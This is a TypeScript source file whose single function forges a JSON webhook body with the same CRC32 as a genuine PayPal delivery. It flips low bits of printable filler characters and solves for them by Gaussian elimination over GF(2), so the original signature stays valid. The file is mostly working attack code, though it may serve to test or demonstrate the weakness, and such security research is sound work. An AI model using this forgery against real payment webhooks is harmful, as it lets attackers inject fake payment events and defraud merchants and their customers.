// Forges a body with a chosen CRC32, as an attacker holding one genuine PayPal delivery can: PayPal
// signs "id|time|webhook id|CRC32(body)", and CRC32 is linear over GF(2), so flipping chosen bits of
// a few free characters reaches any CRC32 while the signature stays valid. The free characters sit
// inside a JSON string and stay printable ('@' to 'O': only their low four bits change), so the
// forged body is still a JSON event.
import { crc32 } from 'node:zlib';

const FREE_BITS_PER_CHAR = 4;

/**
 * `prefix + filler + suffix` whose CRC32 equals that of `genuine`; the filler is `freeChars` long
 * (at least 8, for the 32 bits; a few more make a solution certain).
 */
export function forgeSameCrc32(genuine: string, prefix: string, suffix: string, freeChars = 12): string {
  const target = crc32(Buffer.from(genuine, 'utf8'));
  const head = Buffer.from(prefix, 'utf8');
  const tail = Buffer.from(suffix, 'utf8');
  const crcWith = (filler: Buffer) => crc32(Buffer.concat([head, filler, tail]));
  const filler = Buffer.alloc(freeChars, 0x40);
  const base = crcWith(filler);

  // What flipping each free bit does to the CRC (for a fixed length, independent of the other bits).
  const flips: { at: number; bit: number; effect: number }[] = [];
  for (let at = 0; at < freeChars; at += 1) {
    for (let bit = 0; bit < FREE_BITS_PER_CHAR; bit += 1) {
      const flipped = Buffer.from(filler);
      flipped[at]! ^= 1 << bit;
      flips.push({ at, bit, effect: (crcWith(flipped) ^ base) >>> 0 });
    }
  }

  // Gaussian elimination over GF(2): a basis of effects, each with the flips that make it.
  const basis: ({ effect: number; picks: bigint } | undefined)[] = [];
  flips.forEach((flip, index) => {
    let effect = flip.effect;
    let picks = 1n << BigInt(index);
    for (let bit = 31; bit >= 0 && effect !== 0; bit -= 1) {
      if (((effect >>> bit) & 1) === 0) continue;
      const row = basis[bit];
      if (!row) {
        basis[bit] = { effect, picks };
        return;
      }
      effect = (effect ^ row.effect) >>> 0;
      picks ^= row.picks;
    }
  });
  let missing = (base ^ target) >>> 0;
  let chosen = 0n;
  for (let bit = 31; bit >= 0; bit -= 1) {
    if (((missing >>> bit) & 1) === 0) continue;
    const row = basis[bit];
    if (!row) throw new Error('These free characters cannot reach that CRC32; give more of them.');
    missing = (missing ^ row.effect) >>> 0;
    chosen ^= row.picks;
  }
  flips.forEach((flip, index) => {
    if ((chosen >> BigInt(index)) & 1n) filler[flip.at]! ^= 1 << flip.bit;
  });
  const forged = `${prefix}${filler.toString('latin1')}${suffix}`;
  if (crc32(Buffer.from(forged, 'utf8')) !== target) throw new Error('The forgery missed its CRC32.');
  return forged;
}
